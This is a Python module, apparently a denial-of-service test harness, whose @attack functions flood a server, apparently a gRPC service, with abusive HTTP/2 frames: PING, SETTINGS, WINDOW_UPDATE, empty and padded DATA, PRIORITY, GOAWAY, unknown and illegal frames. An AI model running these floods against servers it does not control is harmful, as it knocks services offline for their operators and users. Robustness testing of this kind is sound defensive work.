"""Frames that carry no call, as fast as they are taken."""

import struct
import time

from attack import attack
from clients import SERVICE, frame_of, heartbeat, heartbeat_message
from flood import Flood
import wire


def frame_flood(target, outcome, frames, connections=1, begin=None):
    Flood(target, begin or wire.prelude(), lambda: wire.blocks_of(frames), connections).run(outcome)


def joined():
    """A connection with a stream, 3, that has joined."""
    return wire.prelude(SERVICE + "Connect") + wire.call(3, frame_of(heartbeat("frames")), ends=False)


@attack()
def window_updates(target, outcome):
    """WINDOW_UPDATE frames of the connection"""
    frame_flood(target, outcome, wire.window_update(0, 1))


@attack()
def window_updates_4(target, outcome):
    """WINDOW_UPDATE frames of connection and stream, on four connections"""
    frame_flood(target, outcome, wire.window_update(0, 1) + wire.window_update(3, 1), 4, joined())


@attack()
def empty_data(target, outcome):
    """DATA frames without a byte, on a stream that has joined"""
    frame_flood(target, outcome, wire.frame(wire.DATA, 0, 3), begin=joined())


@attack()
def empty_data_4(target, outcome):
    """the same on four connections"""
    frame_flood(target, outcome, wire.frame(wire.DATA, 0, 3), 4, joined())


@attack()
def padded_data(target, outcome):
    """DATA frames that are padding alone, as far as the windows let them"""
    frame_flood(target, outcome, wire.frame(wire.DATA, wire.PADDED, 3, b"\xff" + bytes(255)), begin=joined())


@attack()
def data_byte_by_byte(target, outcome):
    """messages in DATA frames of one byte each, within the windows"""
    body = frame_of(heartbeat("frames"), 2) * 1000
    deadline = time.monotonic() + target.seconds
    connected = 0
    while time.monotonic() < deadline:
        connection = target.connect()
        connected += 1
        stream = connection.open(SERVICE + "Connect", frame_of(heartbeat("frames")), ends=False)
        connection.flush()
        sent = 0
        while not connection.is_closed and time.monotonic() < deadline:
            size = min(connection.window, connection.first_window + connection.windows.get(stream, 0), 4000)
            if size <= 0:
                connection.pump(0.02)
                continue
            connection.window -= size
            connection.windows[stream] = connection.windows.get(stream, 0) - size
            piece = (body + body)[sent % len(body):][:size]
            connection.raw(b"".join(wire.frame(wire.DATA, 0, stream, piece[i:i + 1]) for i in range(size)))
            connection.flush(1)
            connection.pump()
            sent += size
        connection.close()
        time.sleep(0.02)
    outcome.remarks.append("%d connections" % connected)


@attack()
def pings(target, outcome):
    """PING frames"""
    frame_flood(target, outcome, wire.frame(wire.PING, 0, 0, bytes(8)))


@attack()
def pings_unread(target, outcome):
    """PING frames on four connections whose acknowledgments nobody reads"""
    Flood(target, wire.prelude(), lambda: wire.blocks_of(wire.frame(wire.PING, 0, 0, bytes(8))), 4, reads=False).run(outcome)


@attack()
def pings_among_calls(target, outcome):
    """heartbeats, each with as many PING frames as its headers might have bytes, 4 KiB"""
    pings = wire.frame(wire.PING, 0, 0, bytes(8)) * (4096 // 17)
    body = heartbeat_message("pings")
    Flood(target, wire.prelude(SERVICE + "Heartbeat"), lambda: wire.blocks_of_calls(
        lambda stream: wire.call(stream, body) + pings, calls=500)).run(outcome)


@attack()
def settings_flood(target, outcome):
    """SETTINGS frames that change the windows' size and the table's"""
    frames = wire.settings({4: 65535, 1: 0}) + wire.settings({4: 1, 1: 4096})
    frame_flood(target, outcome, frames, begin=joined())


@attack()
def settings_unread(target, outcome):
    """SETTINGS frames without a value on four connections whose acknowledgments nobody reads"""
    Flood(target, wire.prelude(), lambda: wire.blocks_of(wire.settings()), 4, reads=False).run(outcome)


@attack()
def settings_unknown(target, outcome):
    """SETTINGS frames of 16 KiB, of settings that nobody knows"""
    frame_flood(target, outcome, wire.frame(wire.SETTINGS, 0, 0, struct.pack(">HI", 0xfafa, 1) * 2730))


@attack()
def window_size_flips(target, outcome):
    """SETTINGS frames that change the windows of 1,000 joined streams, each time of all of them"""
    streams = b"".join(wire.call(stream, frame_of(heartbeat("flips-%d" % stream)), ends=False) for stream in range(3, 2003, 2))
    frame_flood(target, outcome, wire.settings({4: 0}) + wire.settings({4: 65535}), begin=wire.prelude(SERVICE + "Connect") + streams)


@attack()
def table_size_claims(target, outcome):
    """calls between SETTINGS that allow a table of 4 GiB for the answers' headers, and none"""
    sizes = wire.settings({1: 0xffffffff}), wire.settings({1: 0})
    body = heartbeat_message("tabler")
    Flood(target, wire.prelude(SERVICE + "Heartbeat"), lambda: wire.blocks_of_calls(
        lambda stream: sizes[stream // 2 % 2] + wire.call(stream, body))).run(outcome)


@attack()
def settings_acknowledged(target, outcome):
    """acknowledgments of SETTINGS and of PINGs that nobody sent"""
    frame_flood(target, outcome, wire.frame(wire.SETTINGS, wire.ACK, 0) + wire.frame(wire.PING, wire.ACK, 0, bytes(8)))


@attack()
def priorities(target, outcome):
    """PRIORITY frames of streams that were never opened"""
    frames = b"".join(wire.frame(wire.PRIORITY, 0, stream, struct.pack(">IB", 0, 15)) for stream in range(101, 2101, 2))
    frame_flood(target, outcome, frames)


@attack()
def data_of_no_stream(target, outcome):
    """DATA frames of 16 KiB on a stream that is over, and on one that never was"""
    data = bytes(16384)
    frame_flood(target, outcome, wire.frame(wire.DATA, 0, 1, data) + wire.frame(wire.DATA, 0, 99999, data),
                begin=wire.prelude(SERVICE + "Connect"))


@attack()
def unknown_frames(target, outcome):
    """frames of a kind that does not exist: empty ones, and of 16 KiB"""
    frame_flood(target, outcome, wire.frame(0xfa, 0, 0) * 100 + wire.frame(0xfa, 0, 3, bytes(16384)))


@attack()
def goaways(target, outcome):
    """GOAWAY frames"""
    frame_flood(target, outcome, wire.frame(wire.GOAWAY, 0, 0, bytes(8)), begin=joined())


@attack()
def goaways_4(target, outcome):
    """GOAWAY frames with 1 KiB of reasons, on four connections"""
    frame_flood(target, outcome, wire.frame(wire.GOAWAY, 0, 0, bytes(1032)), 4, joined())


@attack()
def illegal_frames(target, outcome):
    """frames that end a connection (wrong lengths, streams, kinds), on one after the other"""
    for i, frames in enumerate((
            wire.frame(wire.PUSH_PROMISE, 4, 1, bytes(4)), wire.frame(wire.SETTINGS, 0, 0, bytes(5)),
            wire.frame(wire.PING, 0, 0, bytes(7)), wire.frame(wire.WINDOW_UPDATE, 0, 0, bytes(4)),
            wire.frame(wire.DATA, wire.PADDED, 3, b"\xff"), wire.frame(wire.CONTINUATION, 4, 3, b"\x83"),
            wire.frame(wire.HEADERS, 4, 0, b"\x83"), wire.frame(wire.HEADERS, 4, 2, b"\x83"),
            wire.window_update(0, 0x7fffffff), b"\xff\xff\xff" + wire.frame(wire.DATA, 0, 3)[3:] + bytes(65536))):
        begin, waited = joined() + frames, time.monotonic() + target.seconds / 10
        while time.monotonic() < waited:
            connection = target.connect(seconds=1)
            connection.waiting = [begin[len(wire.PREFACE + wire.settings()):]]
            connection.flush(1)
            connection.pump(0.02)
            connection.close()
    outcome.remarks.append("%d kinds" % (i + 1))
